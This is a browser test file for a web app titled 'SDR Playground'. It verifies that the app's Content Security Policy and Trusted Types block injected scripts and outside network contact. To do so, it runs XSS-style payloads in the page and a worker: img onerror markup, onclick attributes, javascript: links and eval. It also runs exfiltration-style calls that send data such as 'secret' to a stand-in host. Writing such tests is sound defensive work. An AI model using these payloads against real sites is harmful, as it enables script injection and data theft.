import type { Page, Route } from 'playwright';
import { beforeAll, describe, expect, inject, test } from 'vitest';
import { waitForImagesSeen } from '../support/open-page';
import { openAt, sharedVisit, withPage } from '../support/with-page';

/** Runs code from the server itself: it has the permissions of the page's scripts, not of the test's tools. */
async function runOnPage(page: Page, code: string): Promise<unknown> {
  await page.route('**/probe.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `globalThis.probed = (async () => { ${code} })();` }),
  );
  return page.evaluate(async () => {
    const script = document.createElement('script');
    script.src = './probe.js';
    await new Promise((resolve, reject) => {
      script.addEventListener('load', resolve);
      script.addEventListener('error', reject);
      document.head.append(script);
    });
    return (globalThis as unknown as { probed: unknown }).probed;
  });
}

/** Removes the server's headers, like a host that sends nothing but files. */
async function withoutHeaders(page: Page): Promise<void> {
  const bare = async (route: Route): Promise<void> => {
    const response = await route.fetch();
    const { 'content-type': type = '' } = response.headers();
    await route.fulfill({ response, headers: { 'content-type': type } });
  };
  // Fails harmlessly if the page has been closed.
  await page.route('**/*', (route) => bare(route).catch(() => undefined));
}

/** Directives of the policy that forbid the page to reach another server. */
const REFUSED = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'style-src-elem'];

const HOSTS: readonly (readonly [string, (page: Page) => Promise<void>])[] = [
  ['from its own server', () => Promise.resolve()],
  ['from a host that sends no headers', withoutHeaders],
];
const UNOPENED = { address: null };

describe.each(HOSTS)('%s', (_from, prepare) => {
  const visit = sharedVisit(UNOPENED);
  beforeAll(async () => {
    const { page } = visit();
    await prepare(page);
    await openAt(page, '#preset=bars');
  });

  test('the page trains, and an injected script does not run', async () => {
    const { page, errors } = visit();
    await waitForImagesSeen(page, 1000);
    expect(errors).toEqual([]);
    const ran = await runOnPage(
      page,
      `const script = document.createElement('script');
         const refused = [];
         try { script.text = 'globalThis.ran = true'; } catch (error) { refused.push('text: ' + error.name); }
         script.append('globalThis.ran = true');
         document.head.append(script);
         document.body.append(document.createElement('p'));
         try { document.body.lastChild.innerHTML = '<img src=x onerror="globalThis.ran = true">'; }
         catch (error) { refused.push('innerHTML: ' + error.name); }
         const button = document.createElement('button');
         try { button.setAttribute('onclick', 'globalThis.ran = true'); }
         catch (error) { refused.push('onclick: ' + error.name); }
         button.click();
         const link = document.createElement('a');
         link.href = 'javascript:void(globalThis.ran = true)';
         document.body.append(link);
         link.click();
         await new Promise((resolve) => setTimeout(resolve, 200));
         return { ran: globalThis.ran ?? false, refused };`,
    );
    expect(ran).toEqual({ ran: false, refused: ['text: TypeError', 'innerHTML: TypeError', 'onclick: TypeError'] });
  });

  test('text cannot be compiled to code, but WebAssembly can', async () => {
    const { page } = visit();
    const made = await runOnPage(
      page,
      `const outcome = (run) => { try { run(); return 'ran'; } catch (error) { return error.name; } };
         return {
           eval: outcome(() => (0, eval)('1')),
           Function: outcome(() => new Function('return 1')()),
           worker: outcome(() => new Worker('https://elsewhere.example/worker.js')),
           blobWorker: outcome(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
           wasm: (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))) instanceof WebAssembly.Module,
         };`,
    );
    expect(made).toEqual({
      eval: 'EvalError',
      Function: 'EvalError',
      worker: 'TypeError',
      blobWorker: 'TypeError',
      wasm: true,
    });
  });

  test('no other server is contacted, neither by a request nor by a picture nor by a form', async () => {
    const { page } = visit();
    const refused = await runOnPage(
      page,
      `const refused = new Set();
         addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
         await fetch('https://elsewhere.example/').then(() => refused.add('fetched'), () => undefined);
         try { new WebSocket('wss://elsewhere.example/').onopen = () => refused.add('open'); } catch {}
         navigator.sendBeacon('https://elsewhere.example/', 'secret');
         for (const [tag, attribute] of [['img', 'src'], ['iframe', 'src'], ['video', 'src']]) {
           const element = document.createElement(tag);
           element[attribute] = 'https://elsewhere.example/';
           document.body.append(element);
         }
         const sheet = document.createElement('link');
         sheet.rel = 'stylesheet';
         sheet.href = 'https://elsewhere.example/';
         const style = document.createElement('style');
         style.textContent = 'body { background: red }';
         const base = document.createElement('base');
         base.href = 'https://elsewhere.example/';
         document.head.append(sheet, style, base);
         const form = document.createElement('form');
         form.action = 'https://elsewhere.example/';
         document.body.append(form);
         form.submit();
         for (let waited = 0; waited < 100 && refused.size < ${REFUSED.length}; waited++) await new Promise((done) => setTimeout(done, 100));
         await new Promise((done) => setTimeout(done, 500));
         return [...refused].sort();`,
    );
    expect(refused).toEqual(REFUSED);
  });
});

describe('of a worker', () => {
  const visit = sharedVisit(UNOPENED);
  beforeAll(async () => {
    const { page } = visit();
    await page.route(/train\.worker.*\.js/, async (route) => {
      const response = await route.fetch();
      const probe = `
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (globalThis.refused ??= []).push(effectiveDirective));
        fetch('https://elsewhere.example/').catch(() => undefined);
        try { (0, eval)('1'); globalThis.evaluated = true; } catch {}
      `;
      await route.fulfill({ response, body: `${await response.text()};${probe}` });
    });
    await openAt(page, '#preset=bars');
    await waitForImagesSeen(page, 100);
  });

  test('the policy is the same in the page and in the headers of the page and of its workers', async () => {
    const { page } = visit();
    await waitForImagesSeen(page, 100);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    const worker = page.workers().find((one) => one.url().includes('train.worker'))!;
    for (const address of [inject('pageUrl'), worker.url()]) {
      const { headers } = await fetch(address);
      expect(headers.get('content-security-policy')).toBe(policy);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
    expect(policy).not.toMatch(/'unsafe-|https?:|\*/);
  });

  test('a worker contacts no other server and compiles no text to code either', async () => {
    const { page } = visit();
    await waitForImagesSeen(page, 100);
    const worker = page.workers().find((one) => one.url().includes('train.worker'))!;
    const seen = await worker.evaluate(() => {
      const { refused, evaluated } = globalThis as { refused?: string[]; evaluated?: boolean };
      return { refused: refused?.toSorted(), evaluated: evaluated ?? false };
    });
    expect(seen).toEqual({ refused: ['connect-src', 'require-trusted-types-for'], evaluated: false });
  });
});

test('a chosen theme is applied before anything is drawn', async () => {
  await withPage(
    async ({ page }) => {
      await page.evaluate(() => localStorage.setItem('theme', 'dark'));
      // The page's scripts never load: only index.html itself can apply the theme.
      await page.route(/assets\/.*\.js/, (route) => route.abort());
      await page.reload({ waitUntil: 'commit' });
      await page.getByRole('heading', { name: 'SDR Playground' }).waitFor();
      expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark');
    },
    { address: '#preset=bars', colorScheme: 'light' },
  );
});
